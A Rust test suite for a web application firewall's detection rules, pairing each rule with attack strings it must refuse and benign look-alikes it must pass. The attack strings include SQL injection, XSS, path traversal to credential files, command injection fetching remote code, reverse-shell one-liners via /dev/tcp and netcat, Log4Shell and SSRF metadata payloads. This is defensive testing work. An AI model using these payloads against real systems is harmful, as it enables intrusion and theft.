use std::collections::BTreeSet;
use std::sync::{Arc, OnceLock};

use super::benign::{Chance, value};
use crate::{Rules, Scratch, Set, Transaction, Verdict};

fn rules() -> &'static Arc<Rules> {
    static RULES: OnceLock<Arc<Rules>> = OnceLock::new();
    RULES.get_or_init(|| {
        let set = Set {
            setup: Vec::new(),
            rules: Vec::new(),
            paranoia: 1,
            inbound: 5,
            outbound: 4,
            inspect: 128 << 10,
            file: &|_| None,
        };
        Arc::new(set.load().unwrap())
    })
}

/// Where an example stands in a request, and what it is.
enum Place {
    Argument,
    Name,
    Json,
    Cookie,
    Path,
    Method,
    File,
    Header(&'static str),
}
use Place::{Argument, Cookie, File, Header, Json, Method, Name, Path};

fn percent(text: &str) -> String {
    text.bytes()
        .map(
            |byte| {
                if byte.is_ascii_alphanumeric() {
                    char::from(byte).to_string()
                } else {
                    format!("%{byte:02X}")
                }
            },
        )
        .collect()
}

/// The rules that match, and whether the request is refused.
fn judge(place: &Place, text: &str) -> (Vec<u64>, bool) {
    let (mut method, mut uri, mut body) = ("GET", "/".to_owned(), Vec::new());
    let mut headers = vec![("Host", "clinic.example".to_owned()), ("User-Agent", "tests/1.0".to_owned())];
    match place {
        Argument => uri = format!("/?a={}&b=1", percent(text)),
        Name => uri = format!("/?{}=1", percent(text)),
        Path => uri = text.to_owned(),
        Method => text.clone_into(&mut uri),
        Cookie => headers.push(("Cookie", format!("a=1; b={}", percent(text)))),
        Header(name) => headers.push((name, text.to_owned())),
        Json => {
            method = "POST";
            headers.push(("Content-Type", "application/json".to_owned()));
            body = serde_json::to_vec(&serde_json::json!({ "a": { "b": [1, text] } })).unwrap();
        }
        File => {
            method = "POST";
            headers.push(("Content-Type", "multipart/form-data; boundary=xyz".to_owned()));
            body = format!(
                "--xyz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{text}\"\r\n\r\ndata\r\n--xyz--\r\n"
            )
            .into_bytes();
        }
    }
    if let Method = place {
        (method, uri) = (text, "/".to_owned());
    }
    if !body.is_empty() {
        headers.push(("Content-Length", body.len().to_string()));
    }
    let mut transaction = Transaction::new(rules(), Scratch::default());
    transaction.connection(([192, 0, 2, 7].into(), 4711), ([192, 0, 2, 1].into(), 443));
    transaction.request_line(method.as_bytes(), uri.as_bytes(), b"HTTP/1.1");
    for (name, value) in &headers {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    let mut verdict = transaction.phase1();
    if verdict == Verdict::Pass {
        transaction.request_body(&body);
        verdict = transaction.phase2();
    }
    let ids = transaction.matches().iter().map(|found| found.rule.id).collect();
    (ids, verdict != Verdict::Pass)
}

/// A rule, where its examples stand, what it refuses, and what it lets pass though it looks alike.
type Case = (u64, Place, &'static [&'static str], &'static [&'static str]);

const CASES: &[Case] = &[
    (4_610_100, Method, &["TRACE", "CONNECT"], &["GET", "DELETE"]),
    (4_610_110, Path, &["/a%00.png", "/?a=b%00"], &["/a%20b", "/?a=100%25"]),
    (4_610_111, Json, &["a\0b"], &["a0b"]),
    (
        4_610_120,
        Argument,
        &["x\r\nSet-Cookie: a=b", "x\nLocation: //y"],
        &["a\r\nlocation of the house", "Set-Cookie: a"],
    ),
    (
        4_610_130,
        Header("User-Agent"),
        &["sqlmap/1.7", "Mozilla/5.0 (Nikto)"],
        &["Mozilla/5.0 (X11)", "curl/8"],
    ),
    (
        4_610_200,
        Path,
        &[
            "/a/%2e%2e/b",
            "/../../etc/x",
            "/a/..%2f..%2fb",
            "/%c0%ae%c0%ae/x",
            "/..%5c..%5cx",
            "/%252e%252e/x",
        ],
        &["/a/b..c/d", "/a.b/c", "/?a=../b", "/a/...b"],
    ),
    (
        4_610_210,
        Argument,
        &["../../a", r"..\..\..\x", "img/../../../a.php", "....//....//x"],
        &["../a", "see ../../a for more", "a...b", "import x from '../../lib/x';\n"],
    ),
    (
        4_610_220,
        Cookie,
        &[
            "/etc/passwd",
            r"c:\windows\win.ini",
            "file:///proc/self/environ",
            "x/WEB-INF/web.xml",
            "~/.ssh/id_rsa",
        ],
        &["edit /etc/passwd with care", "etc", "/windows/a", "/home/passwd", ".git"],
    ),
    (
        4_610_230,
        Path,
        &["/.git/config", "/a/.env", "/.aws/credentials", "/WEB-INF/web.xml"],
        &["/.well-known/x", "/environment", "/git/a"],
    ),
    (
        4_610_240,
        File,
        &["a.php", "b.jsp;.png", "../c.txt", "d.PHTML"],
        &["a.png", "b.phpnotes.pdf", "r\u{e9}sum\u{e9}.docx"],
    ),
    (
        4_610_300,
        Argument,
        &[
            "127.0.0.1; cat /etc/hosts",
            "x|wget http://y/z",
            "$(curl -s http://x)",
            "a'; sleep 5",
            "1&&nc -e /bin/sh x 1",
            "a & ping -n 3 x",
            ";cat${IFS}/etc/x",
            "| php -r 'x'",
        ],
        &[
            "a dog; cat lovers",
            "cats & dogs; find out more",
            "Run `ls -la` or `cat README.md`",
            "one; echo two",
            "AT&T sleep 5",
            "sort; more",
        ],
    ),
    (
        4_610_301,
        Argument,
        &["x;id", "1|whoami", "$(id)", "a && uname -a", "x; ls -la; #", "a'|ls '"],
        &["name; id and date", "login & id", "the `id` of", "a; set of two", "who; what; when"],
    ),
    (
        4_610_302,
        Argument,
        &["`id`", "a`ping -c 3 x`", "x=`/bin/cat /etc/hosts`;"],
        &["the `id` of", "Run `ls -la`, then", "`name`", "`ls -la` lists files"],
    ),
    (
        4_610_310,
        Header("User-Agent"),
        &["a;cat${IFS}b", "bash -i >& /dev/tcp/10.0.0.1/99 0>&1", "nc x 1 -e /bin/sh", "a|sh"],
        &["tests (bash; sh)", "a | shell"],
    ),
    (4_610_320, Header("X-A"), &["() { :; }; echo a", "() {a;}"], &["() => 1", "f() { }"]),
    (
        4_610_400,
        Argument,
        &["<?php system('id'); ?>", "<?= exec(\"x\") ?>", "<? eval($_GET[1]);"],
        &["<?php echo 1; ?>", "<?xml version=\"1.0\"?>", "system ('x')"],
    ),
    (
        4_610_401,
        Argument,
        &["php://filter/x", "phar://a", "expect://id"],
        &["https://a", "see php://input", "zip"],
    ),
    (
        4_610_402,
        Cookie,
        &["O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "a:1:{i:0;O:1:\"A\":0:{}}"],
        &["O:8", "{\"o\":8}"],
    ),
    (4_610_403, Name, &["allow_url_include", "auto_prepend_file"], &["allow", "prepend"]),
    (
        4_610_410,
        Name,
        &["__proto__[a]", "a.__proto__.b", "constructor[prototype][x]"],
        &["proto", "constructor", "a__proto__b"],
    ),
    (
        4_610_411,
        Json,
        &[
            "require('child_process').exec('id')",
            "process.mainModule.require('fs')",
            "a.constructor.constructor('x')()",
        ],
        &["const fs = require('fs');", "the process.", "constructor"],
    ),
    (4_610_420, Name, &["class.module.classLoader.x", "class['classLoader']"], &["class", "module.class"]),
    (4_610_421, Argument, &["rO0ABXNyAA", "aced00057372"], &["rO0", "aced"]),
    (
        4_610_422,
        Header("Content-Type"),
        &["%{(#_memberAccess['x']=true)}", "${T(java.lang.Runtime)}", "${@java.lang.System@out}"],
        &["application/octet-stream", "a/b; c=${d}"],
    ),
    (
        4_610_430,
        Argument,
        &[
            "{{''.__class__.__mro__}}",
            "{{ x|attr('a') }}",
            "{% import os %}{{ a.__globals__ }}",
            "<%= system('x') %>",
            "#{ exec('id') }",
        ],
        &["{{ name }}", "{% if a %}b{% endif %}", "<%= name %>", "self.__class__"],
    ),
    (
        4_610_431,
        Argument,
        &["{{7*7}}", "${7*7}", "a<%= 7*7 %>b", "#{ 7 * 7 }", "{{7*'7'}}"],
        &["7*7", "{7*7 and more of it}", "${a}", "{{7}}", "`${a * 2}`"],
    ),
    (
        4_610_440,
        Name,
        &["password[$ne]", "user.email.$regex"],
        &["filters[title][$eq]", "password", "price[$gt]"],
    ),
    (
        4_610_441,
        Argument,
        &["*)(uid=*", "admin)(|(password=*", "x)(&(a=b"],
        &["f(x)(y)", "(a=b)", "a (b) (c=d)"],
    ),
    (
        4_610_450,
        Argument,
        &["<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///c\">]>", "<!ENTITY % x PUBLIC \"a\" \"b\">"],
        &["<!DOCTYPE html>", "an entity"],
    ),
    (
        4_610_500,
        Json,
        &[
            "<img src=x onerror=alert(1)>",
            "\" onmouseover=\"a()",
            "<a href=javascript:x>",
            "<iframe src=//x>",
            "<svg/onload=a>",
            "<object data=x>",
            "&lt;img src=x onerror=alert(1)&gt;",
            "' onfocus='a",
            "<a xlink:href=x>",
        ],
        &[
            "<b>bold</b>",
            "<p style=\"color: red\">x</p>",
            "online = 5; once = 6",
            "a < b > c",
            "<a href=\"https://x.example/\">x</a>",
            "<style>p {}</style>",
            "<!DOCTYPE html>",
            "a onto=b",
        ],
    ),
    (
        4_610_510,
        Argument,
        &["<script>alert(1)</script>", "javascript:alert(1)", "<x onclick=alert(1)>", r"\u003cscript\u003ea"],
        &["a script", "javascript is a language", "<x on=1>"],
    ),
    (
        4_610_600,
        Argument,
        &[
            "1' or '1'='1",
            "1 or 1=1",
            "admin'--",
            "' union select 1,2--",
            "1 union all select null,null",
            "1; drop table users",
            "x' and sleep(5)#",
            "\" or \"\"=\"",
            "1' waitfor delay '0:0:5'--",
            "1') or ('1'='1",
            "-1 order by 10--",
            "1/**/or/**/1=1",
            "' || (select 1) || '",
            "1 and (select 1)=1",
            "%27 or 1=1--",
            "1' and 1=(select count(*) from x)--",
        ],
        &[
            "O'Neill",
            "it's a dog's life, isn't it?",
            "1 or 2",
            "rock 'n' roll",
            "cats or dogs",
            "SELECT name FROM patients WHERE age > 40 ORDER BY name;",
            "Select one; update the other",
            "a -- b",
            "C# or F#",
            "if (a > b) then c else d",
            "union square",
            "2 + 2 = 4",
            "5\" and 6\" pipes",
            "fine\" and \"good",
            "100%' or not we insert",
            "3 and a half",
            "press '+' to add",
            "5\" = 12.7 cm",
            "2 -- ",
        ],
    ),
    (
        4_610_610,
        Json,
        &[
            "1 union select user(), version()",
            "1' AND extractvalue(1,concat(0x7e,version()))",
            "x'; drop table users--",
            "1 and 1=(select 1 from information_schema.tables)",
            "1' into outfile '/tmp/a'",
            "1;waitfor delay '0:0:5'",
            "sleep(5)",
        ],
        &["do sleep (8 hours)", "select one from the union", "how does sleep(5) work in C?", "a drop; table"],
    ),
    (
        4_610_700,
        Argument,
        &[
            "http://169.254.169.254/latest/",
            "https://a@metadata.google.internal/x",
            "//[fd00:ec2::254]/",
            "url=http://2852039166/",
        ],
        &["169.254.0.1", "http://metadata.example.org/", "https://example.org/169.254.169.254"],
    ),
    (
        4_610_710,
        Argument,
        &[
            "gopher://x:70/_a",
            "file:///etc/motd",
            "http://0x7f000001/",
            "http://2130706433/",
            "http://[::1]:80/",
            "ldap://x/a",
            "http://127.1/",
        ],
        &["http://localhost:3000/a", "https://example.org", "a file: here", "dictionary", "http://10.0.0.1/"],
    ),
    (
        4_610_800,
        Header("X-Forwarded-For"),
        &[
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:x}",
            "${${::-j}ndi:x}",
            "${j${upper:n}di:x}",
            "${${env:A:-j}ndi}",
        ],
        &["10.0.0.1", "${HOME}", "${A:-b}", "lower: a"],
    ),
    (4_619_000, Path, &["/.git/config"], &["/"]),
    (4_619_002, Argument, &["1' or '1'='1"], &["1"]),
];

#[test]
fn every_rule_refuses_its_attacks_and_nothing_that_looks_alike() {
    let mut wrong = Vec::new();
    for (id, place, attacks, harmless) in CASES {
        for attack in *attacks {
            let (ids, refused) = judge(place, attack);
            if !ids.contains(id) || !refused {
                wrong.push(format!("{id} does not refuse {attack:?}: {ids:?}"));
            }
        }
        for text in *harmless {
            let (ids, refused) = judge(place, text);
            if ids.contains(id) || refused {
                wrong.push(format!("{id}: {text:?} is harmless: {ids:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn no_rule_is_without_examples() {
    let with: BTreeSet<u64> = CASES.iter().map(|(id, ..)| *id).collect();
    let settings = [4_610_000, 4_619_001];
    let rules: BTreeSet<u64> = rules()
        .rules()
        .map(|rule| rule.id)
        .filter(|id| (4_610_000..4_620_000).contains(id) && !settings.contains(id))
        .collect();
    assert_eq!(rules, with);
}

#[test]
fn people_who_mean_no_harm_are_let_pass() {
    let mut chance = Chance::new(7);
    let mut wrong = BTreeSet::new();
    for _ in 0..2_500 {
        let text = value(&mut chance);
        for place in [Argument, Json, Cookie] {
            let (ids, refused) = judge(&place, &text);
            if refused {
                wrong.insert(format!("{ids:?} {text:?}"));
            }
        }
    }
    assert!(
        wrong.is_empty(),
        "{}:\n{}",
        wrong.len(),
        wrong.into_iter().take(40).collect::<Vec<_>>().join("\n")
    );
}

#[test]
fn two_traces_add_up_where_one_is_not_enough() {
    let set = |inbound| Set {
        setup: Vec::new(),
        rules: Vec::new(),
        paranoia: 1,
        inbound,
        outbound: 4,
        inspect: 1024,
        file: &|_| None,
    };
    for (inbound, refused) in [(5, true), (6, false)] {
        let rules = Arc::new(set(inbound).load().unwrap());
        let mut transaction = Transaction::new(&rules, Scratch::default());
        transaction.request_line(b"GET", b"/?a=php%3A%2F%2Finput", b"HTTP/1.1");
        transaction.request_header(b"Host", b"a");
        transaction.phase1();
        assert_eq!(transaction.phase2() != Verdict::Pass, refused);
        assert_eq!(transaction.scores().inbound, 5);
    }
}
